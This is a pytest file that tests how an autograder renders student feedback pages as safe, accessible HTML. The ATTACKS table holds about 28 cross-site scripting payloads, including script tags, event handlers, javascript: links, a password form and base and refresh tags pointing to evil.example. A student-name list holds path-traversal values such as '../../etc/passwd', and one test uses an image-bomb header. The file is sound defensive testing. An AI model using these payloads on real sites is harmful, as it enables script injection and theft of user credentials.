"""The page that a student reads says all that was found, and nothing that a student wrote can act in it."""

from __future__ import annotations

import base64
import hashlib
import re
import struct
from collections import Counter
from dataclasses import replace
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path
from typing import Any

import pluggy
import pytest

import plugins.exports
from autograder import hookspecs
from autograder.conversation import Evidence, Verdict
from autograder.grade import CheckResult, ExecutedCell, Grade, GradeRecord, Override, Stamp
from plugins.exports import feedback_page
from plugins.exports.feedback_page import grade_finished, page_name, render

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 30, 20) + b"\x08\x06\0\0\0").decode()
JPEG = base64.b64encode(
    b"\xff\xd8\xff\xe0\0\x04ab\xff\xc0\0\x0b\x08" + struct.pack(">HH", 20, 30) + b"\0\0\0\0"
).decode()
VOID = {"meta", "br", "hr", "img", "col", "wbr", "rect"}
IN_HEAD = {"meta", "title", "style"}
SAFE_LINK = re.compile(r"#|https?://|mailto:")
SAFE_PICTURE = re.compile(r"data:image/(png|jpeg);base64,[A-Za-z0-9+/]+=*$")
OURS = {
    "a", "b", "bdi", "blockquote", "body", "br", "caption", "code", "dd", "del", "div", "dl", "dt", "em", "footer",
    "h1", "h2", "h3", "h4", "head", "header", "hr", "html", "i", "img", "li", "main", "meta", "nav", "ol", "p", "pre",
    "rect", "section", "span", "strong", "style", "svg", "table", "tbody", "td", "tfoot", "th", "thead", "time",
    "title", "tr", "ul", "wbr",
}  # fmt: skip


class Page(HTMLParser):
    """A page taken apart: its tags in order, its text, and whatever in it should not be there."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.dangers: list[str] = []
        self.pieces: list[str] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()
        self.dangers += [f"<{tag}> stays open" for tag in self.open]
        self.dangers += [f"id {name} twice" for name, count in Counter(self.values("id")).items() if count > 1]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        misplaced = tag in IN_HEAD and "head" not in self.open
        self.dangers += [f"<{tag}>"] if tag not in OURS or misplaced else []
        self.dangers += [f"<{tag} {name}={value}>" for name, value in attrs if self._acts(tag, name, value or "")]
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in VOID:
            return
        if not self.open or self.open.pop() != tag:
            self.dangers.append(f"</{tag}> out of place")

    def handle_data(self, data: str) -> None:
        self.pieces.append(data)

    def handle_comment(self, data: str) -> None:
        self.dangers.append(f"comment {data}")

    @staticmethod
    def _acts(tag: str, name: str, value: str) -> bool:
        unsafe_link = name == "href" and not SAFE_LINK.match(value)
        unsafe_picture = name == "src" and not SAFE_PICTURE.match(value)
        clobbers = name == "name" and tag != "meta"
        return (
            unsafe_link or unsafe_picture or clobbers or name.startswith("on") or name in {"style", "srcdoc", "action"}
        )

    @property
    def text(self) -> str:
        return " ".join(" ".join(self.pieces).split())

    @property
    def outline(self) -> list[str]:
        return [tag for tag, _ in self.tags]

    def values(self, attribute: str) -> list[str]:
        return [value for _, attributes in self.tags if (value := attributes.get(attribute)) is not None]


def result(task: str = "rnn_forward", points: float = 2.0, **verdict: Any) -> CheckResult:
    said = {"outcome": "passed", "message": "agrees"} | verdict
    return CheckResult(task, "values", "The values agree", points, 2.0, Verdict(**said))


def record(*results: CheckResult, cells: tuple[ExecutedCell, ...] = (), **more: Any) -> GradeRecord:
    grade = Grade(results or (result(),), cells, more.pop("remarks", ()), more.pop("problem", ""))
    stamp = Stamp("rnn", "a1b2", "gradmark 0.1", 12345, "full")
    total = sum(result.out_of for result in grade.results)
    made = GradeRecord("ada", "ada.ipynb", "d1", stamp, "Recurrent networks", total, grade, "2025-11-21T09:00:00+00:00")
    return replace(made, **more)


def page(*results: CheckResult, **more: Any) -> Page:
    return Page(render(record(*results, **more)))


def displayed(**data: Any) -> Page:
    return page(cells=(showing({name.replace("_", "/"): value for name, value in data.items()}),))


def showing(bundle: dict[str, Any]) -> ExecutedCell:
    return ExecutedCell("code", "show()", ({"output_type": "display_data", "data": bundle, "metadata": {}},))


def test_the_page_states_the_students_own_numbers_and_nothing_where_all_have_the_same() -> None:
    stamp = replace(record().stamp, variant="WINDOW = 3, PAD = '<s>'")
    assert "Your own numbers WINDOW = 3, PAD = '<s>'" in page(stamp=stamp).text
    assert "Your own numbers" not in page().text


ATTACKS = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "a handler": "<img src=x onerror=alert(1)>",
    "a handler in a slash": "<svg/onload=alert(1)>",
    "a link that runs": '<a href="javascript:alert(1)">x</a>',
    "a link that runs, in disguise": '<a href=" jAvA&#x73;cript:alert(1)">x</a>',
    "a link that holds a page": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "a Markdown link that runs": "[x](javascript:alert(1)) <javascript:alert(1)>",
    "a Markdown link of an odd kind": "[x](ftp://evil.example) [y](//evil.example) [z](other.html)",
    "a link to a neighbour": '<a href="//evil.example">x</a> <a href="other.html">y</a>',
    "a Markdown picture from elsewhere": "![x](https://evil.example/x.png) ![y](data:image/svg+xml;base64,AAAA)",
    "a style that fetches": '<p style="background:url(https://evil.example)">x</p>',
    "a style sheet": "<style>body{background:url(https://evil.example)}</style>",
    "a frame": '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
    "a form": '<form action="https://evil.example"><input name=password><button>log in</button></form>',
    "the end of everything": "</code></pre></div></td></table></section></main></body></html><script>alert(1)</script>",
    "the end of the title": "</title></style></textarea><script>alert(1)</script>",
    "the end of an attribute": "\"'><img src=x onerror=alert(1)>",
    "a comment that ends late": "<!-- --!><img src=x onerror=alert(1)>",
    "a base": '<base href="https://evil.example"><meta http-equiv=refresh content="0;url=https://evil.example">',
    "names that clobber": '<p id="main" class="skip" name="body">x</p><p id="main">y</p>',
    "markup that changes its mind": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;<img src=x onerror=alert(1)>">',
    "a noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "a template": "<template><script>alert(1)</script></template>",
    "an object": '<object data="https://evil.example"></object><embed src="https://evil.example">',
    "half a tag": "<img src=x onerror=alert(1) ",
    "a NUL in a tag": "<scr\0ipt>alert(1)</scr\0ipt>",
    "half a character": "<b>\ud800</b><script>\udfff</script>",
}  # fmt: skip
attacks = pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())


def planted(text: str, *, markup: str = "") -> GradeRecord:
    """Return a record with this text in every place that a student's file or program can reach."""
    evidence = Evidence(text, text, text, text, text, 0.5, 1e-6)
    outputs = (
        {"output_type": "stream", "name": "stdout", "text": text},
        {"output_type": "stream", "name": text, "text": [text, text]},
        {"output_type": "error", "ename": text, "evalue": text, "traceback": []},
        {"output_type": "error", "ename": text, "evalue": text, "traceback": [text, text]},
        {"output_type": "display_data", "data": {"text/plain": text, text: text}},
        {"output_type": "display_data", "data": {"text/latex": text}},
        {"output_type": "display_data", "data": {"text/html": f"<b>x</b>{markup}"}},
        {"output_type": "display_data", "data": {"text/markdown": f"x {markup}"}},
        {"output_type": "display_data", "data": {"image/png": text, "text/plain": "x"}},
        {"output_type": "display_data", "data": {"image/svg+xml": text, "text/plain": "x"}},
        {"output_type": text, "data": text},
    )
    cells = (
        ExecutedCell("code", f"x{text}", outputs, text, text, ("rnn_forward",)),
        ExecutedCell("raw", f"x{text}"),
        ExecutedCell(
            "markdown", f"x\n\n{markup}\n\n# {markup}\n\n- {markup}\n\n```\n{markup}\n```\n\n| a |\n|-|\n| {markup} |"
        ),
    )
    failed = result(outcome="failed", message=text, hint=text, slip=text, evidence=evidence)
    decided = Override("rnn_forward", 1.0, text, text, text)
    made = record(failed, result(text), cells=cells, remarks=(text,), overrides=(decided,))
    return replace(made, student=text, file=text, title=text, digest=text, graded_at=text)


@attacks
def test_nothing_that_a_student_can_write_acts_in_the_page(attack: str) -> None:
    assert Page(render(planted(attack, markup=attack))).dangers == []


@attacks
def test_escaped_text_never_changes_what_the_page_is_made_of(attack: str) -> None:
    assert Page(render(planted(attack))).outline == Page(render(planted("harmless"))).outline


RAW = {name: attack for name, attack in ATTACKS.items() if not re.search("Markdown|half|NUL", name)}


@pytest.mark.parametrize("attack", RAW.values(), ids=RAW.keys())
def test_the_eye_of_these_tests_sees_each_attack_where_nothing_stops_it(attack: str) -> None:
    assert Page(f"<main id=main>{attack}</main>").dangers


@attacks
def test_a_page_holds_no_character_that_html_does_not(attack: str) -> None:
    html = render(planted(f"{attack}\0\x1b[31m\x07\x9b\ufdd0\ufffe\ud800", markup="\0\x1b\udfff"))
    assert not re.search("[\0-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\ufdd0-\ufdef\ufffe]", html)


@attacks
def test_a_problem_is_escaped_too(attack: str) -> None:
    assert page(problem=attack).dangers == []


def test_the_policy_comes_first_and_allows_the_one_style_and_nothing_that_runs() -> None:
    html = render(record())
    policy = re.search(r'<head>\s*<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html)
    assert policy
    [style] = re.findall(r"<style>(.*?)</style>", html, re.DOTALL)
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert policy[1].split("; ") == [
        "default-src 'none'", "img-src data:", f"style-src 'sha256-{digest}'", "base-uri 'none'", "form-action 'none'",
    ]  # fmt: skip
    assert '<meta name="referrer" content="no-referrer">' in html
    assert "url(" not in style
    assert "@import" not in style


def test_a_page_is_well_made_for_those_who_listen_to_it() -> None:
    cells = ExecutedCell("markdown", "# One\n\n### Three\n\n###### Six\n\n# One again"), ExecutedCell("code", "x")
    failed = result(outcome="failed", points=0.0, evidence=Evidence("f(x)"))
    made = page(failed, result("lstm"), remarks=("a",), cells=cells)
    assert made.dangers == []
    assert dict(made.tags)["html"] == {"lang": "en"}
    levels = [int(tag[1]) for tag in made.outline if re.fullmatch("h[1-6]", tag)]
    assert levels.count(1) == 1
    assert all(after - before <= 1 for before, after in pairwise(levels))
    assert {"header", "nav", "main", "footer", "title"} <= set(made.outline)
    assert all("scope" in attributes for tag, attributes in made.tags if tag == "th")
    assert made.tags[made.outline.index("body") + 1] == ("a", {"class": "skip", "href": "#main"})


def test_every_link_within_the_page_leads_somewhere() -> None:
    cells = (ExecutedCell("code", "def rnn_forward(): ...", defines=("rnn_forward",)),)
    made = page(result(), result("lstm", outcome="broken", points=0.0), cells=cells)
    links = {link[1:] for link in made.values("href") if link.startswith("#")}
    assert links <= set(made.values("id"))
    assert {"cell-1", "task-1", "check-1-1", "notebook", "main"} <= links


def test_code_is_numbered_as_jupyter_numbers_it() -> None:
    text = ExecutedCell("markdown", "Text that is not counted")
    made = page(cells=(text, ExecutedCell("code", "1"), text, ExecutedCell("code", "2", defines=("rnn_forward",))))
    assert "Yours is in cell 2" in made.text
    assert [value for value in made.values("id") if value.startswith("cell-")] == ["cell-1", "cell-2"]


def test_a_function_defined_twice_is_judged_beside_the_last() -> None:
    twice = (ExecutedCell("code", "1", defines=("rnn_forward",)), ExecutedCell("code", "2", defines=("rnn_forward",)))
    made = page(cells=twice)
    assert "Yours is in cell 2" in made.text
    assert "#cell-1" not in made.values("href")


@pytest.mark.parametrize(
    ("outcomes", "said"),
    [
        (["passed"] * 10, "All the points are yours"),
        (["passed"] * 9 + ["failed"], "Very nearly there"),
        (["passed"] * 5 + ["failed"] * 5, "A good part"),
        (["passed"] + ["failed"] * 9, "This is a start"),
        (["failed"] * 10, "No check has passed yet"),
        (["passed"] * 9 + ["broken"], "the rest waits for a person"),
    ],
)
def test_the_first_line_suits_the_outcome(outcomes: list[str], said: str) -> None:
    assert said in page(*(result(outcome=o, points=2.0 if o == "passed" else 0.0) for o in outcomes)).text


def test_what_could_not_be_judged_is_open_and_the_denominator_says_so() -> None:
    text = page(
        result(), result("lstm", outcome="broken", points=0.0), result("gru", outcome="unjudged", points=0.0)
    ).text
    assert "2 of 2 points judged so far" in text
    assert "4 of the 6 points in all are still open. A person will look at lstm and gru" in text.replace(
        "  ", " "
    ).replace("lstm ", "lstm ")
    assert "Waits for a person" in text
    assert "Not judged yet" in text
    assert "0 of 2" not in text


def test_a_file_that_could_not_be_graded_has_no_number() -> None:
    text = Page(
        render(replace(record(problem="The file is no notebook."), grade=Grade(problem="The file is no notebook.")))
    ).text
    assert "That is not a zero" in text
    assert "The file is no notebook." in text
    assert "No points yet" in text


def test_a_verdict_is_told_with_all_that_it_rests_on() -> None:
    evidence = Evidence("rnn(x)", "n_x=2, m=1", "dWax[0, 3]", "0.137", "0.412", 0.6674, 1e-6)
    text = page(
        result(
            outcome="failed",
            points=0.0,
            message="`dWax` is off",
            hint="Mind the batch.",
            evidence=evidence,
        )
    ).text
    for said in (
        "Failed : The values agree", "dWax is off", "Hint. Mind the batch.", "Called rnn(x)",
        "Smallest failing case n_x=2, m=1", "Where dWax[0, 3]", "Got 0.137", "Expected 0.412",
        "Relative error 0.67, where the limit is 1e-06",
    ):  # fmt: skip
        assert said in text


def test_a_slip_is_told_by_its_sentence_and_its_name() -> None:
    text = page(result(outcome="failed", points=0.0, hint="The sum is a mean.", slip="mean-over-batch")).text
    assert "A known slip. The sum is a mean. (mean-over-batch)" in text
    assert "Hint." not in text


def test_a_likely_cause_is_told_as_one() -> None:
    text = page(result(outcome="failed", points=0.0, hint="It is a mean.", cause="sum against mean")).text
    assert "Likely cause. It is a mean. (sum against mean)" in text
    assert "Hint." not in text


def test_an_error_carried_forward_is_said_plainly() -> None:
    assert "Carried forward." in page(result(carried_forward=True)).text
    assert "Carried forward." not in page(result()).text


def test_an_override_says_who_decided_and_why() -> None:
    decided = Override("rnn_forward", 1.5, "The handout misled.", "M. Curie", "2025-11-20T10:00:00+00:00")
    text = page(result(outcome="broken", points=0.0), overrides=(decided,)).text
    assert "Decided by a person. M. Curie gives 1.5 of 2 points" in text
    assert "The handout misled. (2025-11-20)" in text
    assert "1.5 of 2 points" in text


def test_remarks_and_the_stamp_are_on_the_page() -> None:
    text = page(remarks=("`lstm_forwrd` found, did you mean `lstm_forward`?",)).text
    assert "lstm_forwrd found, did you mean lstm_forward ?" in text
    for said in ("Assignment rnn a1b2", "Seed 12345", "Sandbox full", "Versions gradmark 0.1"):
        assert said in text


def test_a_table_is_shown_without_its_style() -> None:
    html = "<style scoped>td{color:red}</style><table border=1 class=dataframe><tr><td colspan=2>7</td></tr></table>"
    made = displayed(text_html=html, text_plain="plain")
    assert ("td", {"colspan": "2"}) in made.tags
    assert "color:red" not in made.text
    assert "plain" not in made.text


@pytest.mark.parametrize("kind", ["image_png", "image_jpeg"])
def test_a_picture_is_shown_with_its_size_and_a_description(kind: str) -> None:
    data = {"image_png": PNG, "image_jpeg": JPEG}[kind]
    [picture] = [attributes for tag, attributes in displayed(**{kind: data[:8] + "\n" + data[8:]}).tags if tag == "img"]
    assert (picture["width"], picture["height"]) == ("30", "20")
    assert picture["alt"] == "Picture from cell 1, output 1"
    assert str(picture["src"]).endswith(data)


BOMB = base64.b64encode(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 10**5, 10**5) + b"\x08\x06").decode()


@pytest.mark.parametrize(
    "data",
    [
        JPEG,
        base64.b64encode(b"?" + base64.b64decode(PNG)[1:]).decode(),
        "PHN2Zz4=",
        "not base64!",
        "",
        BOMB,
        PNG[:20],
        [PNG, 7, None, "!"],
        {"a": PNG},
        7,
    ],
    ids=["jpeg", "nearly a picture", "svg", "not base64", "empty", "bomb", "cut", "list", "dict", "number"],
)
def test_what_is_no_picture_is_shown_as_text(data: object) -> None:
    made = displayed(image_png=data, text_plain="<Figure>")
    assert "img" not in made.outline
    assert "<Figure>" in made.text


def test_a_drawing_is_left_out_with_a_note() -> None:
    bundle = {"image/svg+xml": "<svg><script>alert(1)</script></svg>", "text/plain": "<Graph>"}
    made = page(cells=(showing(bundle),))
    assert "A drawing (SVG) is left out here" in made.text
    assert "<Graph>" in made.text


def test_markup_with_nothing_left_to_see_gives_way_to_plain_text() -> None:
    assert (
        "Figure({})"
        in displayed(text_html="<div> <script>draw()</script><div></div></div>", text_plain="Figure({})").text
    )
    assert "Something is left out here" in displayed(text_html="<script>draw()</script>").text


def test_headings_that_a_student_displays_become_paragraphs() -> None:
    html = render(record(cells=(showing({"text/html": "<h1 onclick=x>A</h1><H3>B</H3>"}),)))
    assert '<div class="output displayed"><p>A</p><p>B</p></div>' in html


def test_html_in_a_markdown_cell_is_shown_as_it_was_typed() -> None:
    assert "a <b>c</b>" in page(cells=(ExecutedCell("markdown", "a <b>c</b>"),)).text


def test_formulas_keep_their_letters_and_headings_their_order() -> None:
    html = render(record(cells=(ExecutedCell("markdown", "# A\n\n$a_{t}^{*}, b_{t}^{*}$\n\n$$\nx < y_1*2*3\n$$"),)))
    assert "<code>a_{t}^{*}, b_{t}^{*}</code>" in html
    assert '<code class="formula">x &lt; y_1*2*3</code>' in html
    assert '<h4 class="level-1">A</h4>' in html


def test_what_was_printed_reads_as_in_a_terminal() -> None:
    outputs = (
        {"output_type": "stream", "name": "stdout", "text": "\x1b[31mred\x1b[0m 1%\r\x1b]0;title\x07 50%\r100%\n"},
        {"output_type": "stream", "name": "stdout", "text": "do"},
        {"output_type": "stream", "name": "stdout", "text": "ne\r\n"},
        {"output_type": "stream", "name": "stderr", "text": "warning"},
    )
    html = render(record(cells=(ExecutedCell("code", "train()", outputs),)))
    assert "<pre><code>100%\ndone\n</code></pre>" in html
    assert '<p class="label">Printed to stderr</p><pre><code>warning</code></pre>' in html


def test_a_long_text_keeps_its_beginning_and_its_end() -> None:
    text = f"first{'.' * 300_000}last"
    for made in (
        page(cells=(ExecutedCell("code", "x", ({"output_type": "stream", "name": "stdout", "text": text},)),)),
        page(cells=(ExecutedCell("code", text),)),
        page(cells=(ExecutedCell("markdown", text),)),
    ):
        assert re.search(r"first\.+ 280,009 characters are left out here\. \.+last", made.text)


def test_a_page_stays_a_page_however_much_was_printed() -> None:
    flood = tuple({"output_type": "display_data", "data": {"text/plain": "x" * 19_000}} for _ in range(500))
    cells = tuple(ExecutedCell("code", "y" * 10_000, flood) for _ in range(30))
    html = render(record(cells=cells))
    assert len(html) < 2_000_000
    assert "400 more outputs are left out here." in html
    assert Page(html).dangers == []


def test_the_outputs_of_many_cells_together_are_bounded() -> None:
    outputs = tuple({"output_type": "execute_result", "data": {"text/plain": "x"}} for _ in range(99))
    html = render(record(cells=(ExecutedCell("code", "x", outputs),) * 300))
    assert html.count('<div class="output') == 5000
    assert "99 more outputs are left out here." in html


def test_a_page_takes_no_more_pictures_than_a_browser_can_bear() -> None:
    large = base64.b64encode(base64.b64decode(PNG) + bytes(4_000_000)).decode()
    pictures = tuple(
        {"output_type": "display_data", "data": {"image/png": large, "text/plain": "<P>"}} for _ in range(5)
    )
    made = page(cells=(ExecutedCell("code", "show()", pictures),))
    assert (made.outline.count("img"), made.text.count("<P>")) == (3, 2)


@pytest.mark.parametrize(
    "outputs", [({},), (None,), (7,), ({"output_type": "stream"},), ({"output_type": "error", "traceback": 7},)]
)
def test_outputs_of_no_known_shape_do_not_break_the_page(outputs: Any) -> None:
    assert page(cells=(ExecutedCell("code", "x", outputs),)).dangers == []


def test_the_colours_can_be_told_apart_in_light_and_in_dark() -> None:
    css = (Path(plugins.exports.__file__).parent / "page.css").read_text(encoding="utf-8")
    light, dark = re.findall(r":root \{(.*?)\}", css, re.DOTALL)[:2]
    for block in (light, dark):
        colours = dict(re.findall(r"--([\w-]+): (#\w{6})", block))
        for ink, papers in {
            "ink": "paper card code hint-tint waits-tint", "soft": "paper card", "link": "paper card",
            "passed": "card passed-tint", "failed": "paper card failed-tint", "waits": "card waits-tint",
        }.items():  # fmt: skip
            for paper in papers.split():
                assert contrast(colours[ink], colours[paper]) >= 4.5, (ink, paper)


def contrast(one: str, other: str) -> float:
    """Return the contrast of two colours as the WCAG define it."""
    lighter, darker = sorted((luminance(one), luminance(other)), reverse=True)
    return (lighter + 0.05) / (darker + 0.05)


def luminance(colour: str) -> float:
    shares = (int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5))
    red, green, blue = (s / 12.92 if s <= 0.04045 else ((s + 0.055) / 1.055) ** 2.4 for s in shares)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


STUDENTS = [
    "ada", "Ada", "ADA", "a/b", "a-b", "a b", "..", ".", "", "-", "../../etc/passwd", "/etc/passwd", "a\0b", "a\nb",
    "\udc80", "é", "e\u0301", "x" * 64, "x" * 65, "x" * 5000, "ada.html", "con", "-rf", "~", "a.b", "<b>", "a\\b",
]  # fmt: skip


def test_no_two_students_share_a_page_and_none_leaves_the_folder() -> None:
    names = [page_name(student) for student in STUDENTS]
    assert len({name.lower() for name in names}) == len(STUDENTS)
    assert page_name("ada") == "ada.html"
    for name in names:
        assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9_.-]*\.html", name)
        assert len(name) < 120


def test_no_student_can_take_the_name_of_another_students_page() -> None:
    taken = page_name("a b")
    assert page_name(taken.removesuffix(".html")) != taken


def test_grade_finished_writes_the_page_whole_in_the_place_of_the_former_one(tmp_path: Path) -> None:
    manager = pluggy.PluginManager("gradmark")
    manager.add_hookspecs(hookspecs)
    manager.register(feedback_page)
    for more in ({"title": "First"}, {"title": "Second \ud800"}, {"student": "../../evil"}):
        manager.hook.grade_finished(record=replace(record(), **more), folder=tmp_path)
    written = sorted(path.relative_to(tmp_path).as_posix() for path in tmp_path.rglob("*") if path.is_file())
    assert written == ["feedback/ada.html", f"feedback/{page_name('../../evil')}"]
    assert "Second" in (tmp_path / "feedback" / "ada.html").read_text(encoding="utf-8")


def test_a_page_that_cannot_be_written_leaves_the_former_one(tmp_path: Path) -> None:
    grade_finished(record(), tmp_path)
    (tmp_path / "feedback" / page_name("Bob")).mkdir()
    with pytest.raises(OSError, match="directory"):
        grade_finished(replace(record(), student="Bob"), tmp_path)
    assert sorted(path.name for path in (tmp_path / "feedback").iterdir()) == [page_name("Bob"), "ada.html"]
